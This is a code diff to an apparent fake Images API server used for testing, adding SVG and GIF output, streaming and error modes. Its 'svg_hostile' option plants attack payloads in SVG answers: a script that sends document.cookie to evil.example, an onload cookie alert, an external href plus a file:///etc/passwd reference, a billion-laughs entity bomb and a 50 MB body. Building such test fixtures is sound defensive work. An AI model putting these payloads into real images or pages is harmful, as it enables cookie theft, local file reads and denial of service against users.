@@ -130,6 +130,10 @@ FAULT_KINDS = frozenset(
         "echo_key_moderation",
     }
 )
+COMPLEXITY_PREFIXES = ("gpt-image-2.6",)
+"""Models that take ``complexity`` (highlighted on the 2.6 model page); others answer 400."""
+MARKUP_PREFIXES = ("gpt-image-2.5", "gpt-image-2.6")
+"""Models whose edits take a ``markup`` image; others answer 400."""
 DELIVERY_FAULTS = frozenset({"trickle", "gzip_bomb"})
 """Faults in how a successful answer is delivered: the request is served (and billed) first."""
 CONFIG_KEYS = frozenset(
@@ -156,6 +160,8 @@ CONFIG_KEYS = frozenset(
         "usage_patch",
         "c2pa_sign",
         "refuse_transparent",
+        "preview_denied",
+        "svg_hostile",
     }
 )
 # Keys POST /_config accepts (callables such as clock, and bytes, cannot travel as JSON).
@@ -178,9 +184,19 @@ GENERATION_PARAMS = frozenset(
         "safety_identifier",
         "user",
         "complexity",
+        "frame_count",
+        "frame_duration_ms",
+        "svg",
     }
 )
-EDIT_PARAMS = GENERATION_PARAMS | {"input_fidelity"}
+EDIT_PARAMS = (GENERATION_PARAMS - {"svg"}) | {
+    "input_fidelity",
+    "svg[model]",
+    "svg[reasoning][effort]",
+}
+SVG_HOSTILE = frozenset({"script", "onload", "external_href", "billion_laughs", "huge"})
+"""What ``svg_hostile`` plants in every SVG answer (see :func:`draw_svg`)."""
+HUGE_SVG_BYTES = 50 * 1000 * 1000
 EDIT_FILE_FIELDS = frozenset({"image", "image[]", "mask", "markup"})
 
 _SIZE_RE = re.compile(r"^(\d{1,5})x(\d{1,5})$")
@@ -284,6 +300,73 @@ class _Params:
     background: str
     output_format: str
     compression: int
+    frame_count: int = 9
+    frame_ms: int = 200
+
+
+def draw_svg(params: _Params, uid: str, hostile: str | None = None) -> bytes:
+    """An SVG icon for ``params`` (a rounded square in the prompt's color with a mark),
+    unique per call; ``hostile`` plants one attack: a ``<script>``, an ``onload``
+    handler, external hrefs, a billion-laughs entity bomb, or a 50 MB body."""
+    color = _PALETTE[hashlib.sha256(params.prompt.encode("utf-8")).digest()[0] % len(_PALETTE)]
+    fill = "#{:02X}{:02X}{:02X}".format(*color)
+    w, h = params.width, params.height
+    root_extra = ' onload="alert(document.cookie)"' if hostile == "onload" else ""
+    body = [
+        f'<rect x="{w // 8}" y="{h // 8}" width="{3 * w // 4}" height="{3 * h // 4}" '
+        f'rx="{w // 10}" fill="{fill}"/>',
+        f'<circle cx="{w // 2}" cy="{h // 2}" r="{w // 8}" fill="#FFFFFF"/>',
+    ]
+    if hostile == "script":
+        body.append("<script>fetch('https://evil.example/steal?c='+document.cookie)</script>")
+    if hostile == "external_href":
+        body.append('<use href="https://evil.example/sprite.svg#icon"/>')
+        body.append('<image href="file:///etc/passwd" width="10" height="10"/>')
+    head = text = padding = ""
+    if hostile == "billion_laughs":
+        entities = ['<!ENTITY lol0 "lol">'] + [
+            f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
+        ]
+        head = '<?xml version="1.0"?><!DOCTYPE svg [' + "".join(entities) + "]>"
+        text = "<text>&lol9;</text>"
+    if hostile == "huge":
+        padding = "<!--" + "x" * HUGE_SVG_BYTES + "-->"
+    markup = (
+        f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{h}" '
+        f'viewBox="0 0 {w} {h}"{root_extra}><!-- fakeapi-uid:{uid} -->'
+        + "".join(body)
+        + text
+        + padding
+        + "</svg>"
+    )
+    return markup.encode("utf-8")
+
+
+def draw_gif(params: _Params, uid: str) -> bytes:
+    """An animated GIF of ``params.frame_count`` frames: a square that steps right each
+    frame, so every frame differs; unique per call (a comment carries ``uid``)."""
+    color = _PALETTE[hashlib.sha256(params.prompt.encode("utf-8")).digest()[0] % len(_PALETTE)]
+    w, h = params.width, params.height
+    side = max(4, min(w, h) // 4)
+    frames = []
+    for k in range(params.frame_count):
+        frame = Image.new("RGB", (w, h), (255, 255, 255))
+        x = (w - side) * k // max(1, params.frame_count - 1)
+        box = (x, h // 2 - side // 2, x + side - 1, h // 2 + side // 2)
+        ImageDraw.Draw(frame).rectangle(box, fill=color)
+        frames.append(frame)
+    buffer = io.BytesIO()
+    frames[0].save(
+        buffer,
+        "GIF",
+        save_all=True,
+        append_images=frames[1:],
+        duration=params.frame_ms,
+        loop=0,
+        comment=f"fakeapi-uid:{uid}".encode("ascii"),
+        optimize=False,
+    )
+    return buffer.getvalue()
 
 
 @dataclass(frozen=True)
@@ -370,6 +453,8 @@ def _normalize(name: str, value: Any) -> Any:
         if float(value) < 0:
             raise ValueError(f"{name} must be >= 0")
         return float(value)
+    if name == "preview_denied":
+        return frozenset([value] if isinstance(value, str) else value)
     if name in {"drop_after_billing", "refuse_transparent"}:
         return bool(value)
     if name == "blocked_words":
@@ -400,6 +485,10 @@ def _normalize(name: str, value: Any) -> Any:
         return None if value is None else str(value)
     if name == "usage_patch":
         return None if value is None else dict(value)
+    if name == "svg_hostile":
+        if value is not None and value not in SVG_HOSTILE:
+            raise ValueError(f"svg_hostile must be None or one of {sorted(SVG_HOSTILE)}")
+        return value
     if name == "c2pa_sign":
         if value is not None and not callable(value):
             raise ValueError("c2pa_sign must be a callable (PNG bytes -> signed bytes) or None")
@@ -644,8 +733,7 @@ def _validate(
             f"The model `{model}` does not exist or you do not have access to it.",
             code="model_not_found",
         )
-    if str(fields.get("stream", "false")).lower() == "true":
-        raise _invalid("stream", "Streaming is not supported by the fake Images API.")
+    streaming = str(fields.get("stream", "false")).lower() == "true"
     n = _integer(fields, "n", 1, 1, 10)
     width, height = _resolve_size(model, fields.get("size", "auto"))
     qualities = ["low", "medium", "high", "auto"]
@@ -653,7 +741,14 @@ def _validate(
         qualities[3:3] = ["xhigh", "max"]
     quality = _choice(fields, "quality", qualities, "auto")
     background = _choice(fields, "background", ("transparent", "opaque", "auto"), "auto")
-    output_format = _choice(fields, "output_format", ("png", "webp", "jpeg"), "png")
+    output_format = _choice(fields, "output_format", ("png", "webp", "jpeg", "gif", "svg"), "png")
+    if output_format in ("gif", "svg") and not model.startswith("gpt-image-2.6"):
+        raise _invalid(
+            "output_format",
+            f"Invalid value: '{output_format}'. {output_format.upper()} output is not "
+            f"available for model '{model}'.",
+        )
+    frame_count, frame_ms = _animation_fields(fields, output_format, n)
     if background == "transparent" and refuse_transparent:
         raise _invalid(
             "background",
@@ -669,7 +764,16 @@ def _validate(
     compression = _integer(fields, "output_compression", 100, 0, 100)
     _choice(fields, "moderation", ("low", "auto"), "auto")
     _integer(fields, "partial_images", 0, 0, 3)
+    if streaming and output_format in ("gif", "svg"):
+        raise _invalid(
+            "stream", f"Streaming is not supported with output_format '{output_format}'."
+        )
     if "complexity" in fields:
+        if not model.startswith(COMPLEXITY_PREFIXES):
+            raise _invalid(
+                "complexity",
+                f"Invalid parameter: 'complexity' is not supported for model '{model}'.",
+            )
         _choice(fields, "complexity", ("low", "medium", "high"), "medium")
     if "input_fidelity" in fields:
         _choice(fields, "input_fidelity", ("high", "low"), "low")
@@ -683,7 +787,34 @@ def _validate(
         background="opaque" if background == "auto" else background,
         output_format=output_format,
         compression=compression,
+        frame_count=frame_count,
+        frame_ms=frame_ms,
     )
+
+
+def _animation_fields(fields: dict[str, Any], output_format: str, n: int) -> tuple[int, int]:
+    """The GIF's frame count and duration, and the rules of GIF and SVG output."""
+    svg = fields.get("svg")
+    flat_svg = [name for name in fields if name.startswith("svg[")]
+    if (svg is not None or flat_svg) and output_format != "svg":
+        raise _invalid("svg", "The 'svg' parameter requires output_format=svg.")
+    if isinstance(svg, dict) and not isinstance(svg.get("model"), str):
+        raise _invalid("svg.model", "Missing required parameter: 'svg.model'.")
+    if flat_svg and "svg[model]" not in fields:
+        raise _invalid("svg.model", "Missing required parameter: 'svg.model'.")
+    for name in ("frame_count", "frame_duration_ms"):
+        if name in fields and output_format != "gif":
+            raise _invalid(name, f"'{name}' requires output_format=gif.")
+    if output_format in ("gif", "svg"):
+        if "output_compression" in fields:
+            raise _invalid(
+                "output_compression", f"output_compression is not supported for {output_format}."
+            )
+        if output_format == "svg" and n != 1:
+            raise _invalid("n", "SVG output requires n=1.")
+    frame_count = _integer(fields, "frame_count", 9, 2, 16)
+    frame_ms = _integer(fields, "frame_duration_ms", 200, 10, 655_350)
+    return frame_count, frame_ms
 
 
 class _Handler(BaseHTTPRequestHandler):
@@ -766,6 +897,19 @@ class FakeImagesAPI:
     - ``refuse_transparent``: ``background=transparent`` is refused with a 400
       ``invalid_request_error`` / ``invalid_value`` naming ``param: background``, as some
       organisations see on models that claim transparency.
+    - ``preview_denied``: models whose every request is answered 403 as for an
+      organisation without preview access (the SVG and GIF outputs need it).
+    - ``svg_hostile``: one attack planted in every SVG answer (``output_format=svg``):
+      "script", "onload", "external_href", "billion_laughs" or "huge" (a 50 MB body);
+      None (the default): a plain icon. GIF answers have ``frame_count`` frames.
+
+    Streamed answers (``stream: true``), set as attributes:
+    - ``stream_hold``: a ``threading.Event``; the partials are sent, then the completed
+      event waits until it is set (or the fake stops), so a test sees the partials while
+      the image is still "being made", however fast the machine.
+    - ``stream_hostile``: "not_image" (each partial's bytes are HTML, not an image) or
+      "huge_event" (one event ``bomb_bytes`` long that never ends) or "error_event" (the
+      stream reports an error instead of an image); None: honest.
 
     Records and counters: ``requests`` (list of RequestRecord), ``billed_images``,
     ``status_counts`` (Counter of HTTP status, or DROPPED), ``peak_in_flight``, ``in_flight``,
@@ -797,6 +941,8 @@ class FakeImagesAPI:
         usage_patch: dict[str, Any] | None = None,
         c2pa_sign: Callable[[bytes], bytes] | None = None,
         refuse_transparent: bool = False,
+        preview_denied: Iterable[str] = (),
+        svg_hostile: str | None = None,
         port: int = 0,
     ) -> None:
         object.__setattr__(self, "_lock", threading.RLock())
@@ -834,9 +980,16 @@ class FakeImagesAPI:
         self.usage_patch = usage_patch
         self.c2pa_sign = c2pa_sign
         self.refuse_transparent = refuse_transparent
+        self.preview_denied = preview_denied
+        self.svg_hostile = svg_hostile
+        self.stream_hold: threading.Event | None = None
+        self.stream_hostile: str | None = None
         from fakebatch import FakeBatchAPI  # the Files and Batches endpoints
 
         self.batch = FakeBatchAPI(self)
+        from fakejudge import FakeJudgeAPI  # the Responses endpoint (a vision judge)
+
+        self.judge = FakeJudgeAPI(self)
         self.reset_counters()
 
     def __setattr__(self, name: str, value: Any) -> None:
@@ -995,7 +1148,7 @@ class FakeImagesAPI:
             self._send(handler, _Reply(200, self.stats(), {}))
         elif handler.command == "POST" and path == "/_config":
             self._send(handler, self._apply_config(body))
-        elif self.batch.serve(handler, path, body):
+        elif self.batch.serve(handler, path, body) or self.judge.serve(handler, path, body):
             return
         else:
             error = ApiError(404, f"Invalid URL ({handler.command} {handler.path})")
@@ -1018,6 +1171,9 @@ class FakeImagesAPI:
     def _send(self, handler: _Handler, reply: _Reply | _Drop) -> None:
         if isinstance(reply, _Drop):
             handler.close_connection = True
+            return
+        if reply.delivery == "sse":
+            self._send_events(handler, reply)
             return
         payload = json.dumps(reply.body, separators=(",", ":")).encode("utf-8")
         if reply.delivery is not None:
@@ -1043,6 +1199,37 @@ class FakeImagesAPI:
                     handler.wfile.write(payload[start : start + 64 * 1024])
         else:
             handler.wfile.write(payload)
+
+    def _send_events(self, handler: _Handler, reply: _Reply) -> None:
+        """A streamed answer as server-sent events, one flushed event at a time, then the
+        connection closes (as the API's streams end)."""
+        handler.close_connection = True
+        handler.send_response(reply.status)
+        handler.send_header("Content-Type", "text/event-stream")
+        handler.send_header("Connection", "close")
+        for name, value in reply.headers.items():
+            handler.send_header(name, value)
+        handler.end_headers()
+        hold, hostile = self.stream_hold, self.stream_hostile
+        with contextlib.suppress(OSError):
+            if hostile == "huge_event":  # never ended: the client must stop reading
+                head = 'event: image_generation.partial_image\ndata: {"b64_json":"'
+                handler.wfile.write(head.encode())
+                for _ in range(0, self.bomb_bytes, 64 * 1024):
+                    handler.wfile.write(b"A" * 64 * 1024)
+                return
+            if hostile == "error_event":  # the image fails while it is being made
+                error = {"message": "the image could not be made", "type": "server_error"}
+                data = json.dumps({"type": "error", "error": error})
+                handler.wfile.write(f"event: error\ndata: {data}\n\n".encode())
+                return
+            for event in reply.body["events"]:
+                if event["type"].endswith(".completed") and hold is not None:
+                    while not (hold.wait(0.05) or self._stopping.is_set()):
+                        pass
+                data = json.dumps(event, separators=(",", ":"))
+                handler.wfile.write(f"event: {event['type']}\ndata: {data}\n\n".encode())
+                handler.wfile.flush()
 
     def _trickle(self, handler: _Handler, payload: bytes) -> None:
         """Send ``payload`` a byte at a time until it is done, the client hangs up, the fake
@@ -1137,6 +1324,9 @@ class FakeImagesAPI:
             with self._lock:
                 models, blocked = self.models, self.blocked_words
                 refuse = self.refuse_transparent
+                denied = self.preview_denied
+            if record.fields.get("model") in denied:
+                raise self._preview_error(str(record.fields["model"]))
             params = _validate(record.endpoint, record.fields, models, refuse)
             record.n = params.n
             self._check_edit_inputs(record)
@@ -1221,6 +1411,11 @@ class FakeImagesAPI:
             )
         if record.mask_sha256 is not None and record.markup_sha256 is not None:
             raise _invalid("markup", "'markup' cannot be combined with 'mask'.")
+        model = str(record.fields.get("model", ""))
+        if record.markup_sha256 is not None and not model.startswith(MARKUP_PREFIXES):
+            raise _invalid(
+                "markup", f"Invalid parameter: 'markup' is not supported for model '{model}'."
+            )
         if record.mask_size is not None and record.mask_size != record.image_sizes[0]:
             (mw, mh), (iw, ih) = record.mask_size, record.image_sizes[0]
             raise _invalid(
@@ -1249,6 +1444,17 @@ class FakeImagesAPI:
             f"Incorrect API key provided: {_mask_key(key)}. You can find your API key at "
             "https://platform.openai.com/account/api-keys.",
             code="invalid_api_key",
+        )
+
+    @staticmethod
+    def _preview_error(model: str) -> ApiError:
+        """The answer to an organisation without access to a model's preview (SVG, GIF):
+        a 403 ``PermissionDeniedError`` whose message names the preview, no code."""
+        return ApiError(
+            403,
+            f"Your organization does not have access to the preview for the selected model "
+            f"`{model}`. Request access from your organization settings, or choose a "
+            "generally available output format.",
         )
 
     @staticmethod
@@ -1433,12 +1639,15 @@ class FakeImagesAPI:
         if drawn_size is not None:
             width, height = (int(v) for v in drawn_size.split("x"))
             drawn = replace(params, width=width, height=height)
+        with self._lock:
+            hostile = self.svg_hostile
         images = [
-            forced if forced is not None else self._images.render(drawn, params.prompt)
-            for _ in range(params.n)
+            forced if forced is not None else self._draw(drawn, hostile) for _ in range(params.n)
         ]
         if c2pa_sign is not None and forced is None and params.output_format == "png":
             images = [c2pa_sign(image) for image in images]
+        for image in images:
+            self.judge.remember(image, params.prompt)
         text_tokens = max(1, len(params.prompt) // 4)
         image_tokens = INPUT_IMAGE_TOKENS * len(record.image_sha256)
         per_image = round(
@@ -1465,10 +1674,70 @@ class FakeImagesAPI:
         }
         if usage_patch:
             body["usage"].update(usage_patch)
+        if str(record.fields.get("stream", "false")).lower() == "true":
+            with self._lock:
+                record.billed = params.n
+                self.billed_images += params.n
+            return _Reply(200, self._events(record, params, body, images[0]), limits, "sse")
+        if params.output_format == "svg":
+            author = record.fields.get("svg")
+            model = author.get("model") if isinstance(author, dict) else None
+            body["svg_usage"] = {
+                "input_tokens": 900 + text_tokens,
+                "model": str(model or record.fields.get("svg[model]") or "svg-author-default"),
+                "output_tokens": 2400,
+                "reasoning_tokens": 1200,
+                "total_tokens": 3300 + text_tokens,
+            }
         with self._lock:
             record.billed = params.n
             self.billed_images += params.n
         return _Reply(200, body, limits)
+
+    def _events(
+        self, record: RequestRecord, params: _Params, body: dict[str, Any], final: bytes
+    ) -> dict[str, Any]:
+        """A streamed answer (``stream: true``): ``partial_images`` partial frames, each a
+        real image of its own (drawn for the prompt plus its index, so no partial equals
+        the final), then the completed event with the final image and the usage."""
+        count = _integer(record.fields, "partial_images", 0, 0, 3)
+        prefix = "image_edit" if record.endpoint == "edits" else "image_generation"
+        common = {
+            "background": params.background,
+            "created_at": body["created"],
+            "output_format": params.output_format,
+            "quality": params.quality,
+            "size": body["size"],
+        }
+        events = [
+            {
+                "type": f"{prefix}.partial_image",
+                "b64_json": base64.b64encode(
+                    b"<html>not an image</html>"
+                    if self.stream_hostile == "not_image"
+                    else self._images.render(params, f"{params.prompt} (partial {index})")
+                ).decode("ascii"),
+                "partial_image_index": index,
+                **common,
+            }
+            for index in range(count)
+        ]
+        completed = {
+            "type": f"{prefix}.completed",
+            "b64_json": base64.b64encode(final).decode("ascii"),
+            "usage": body["usage"],
+            **common,
+        }
+        return {"events": [*events, completed]}
+
+    def _draw(self, params: _Params, hostile: str | None) -> bytes:
+        """One image of the requested format: an SVG, a GIF, or a raster."""
+        uid = secrets.token_hex(10)
+        if params.output_format == "svg":
+            return draw_svg(params, uid, hostile)
+        if params.output_format == "gif":
+            return draw_gif(params, uid)
+        return self._images.render(params, params.prompt)
 
 
 def main(argv: list[str] | None = None) -> int:
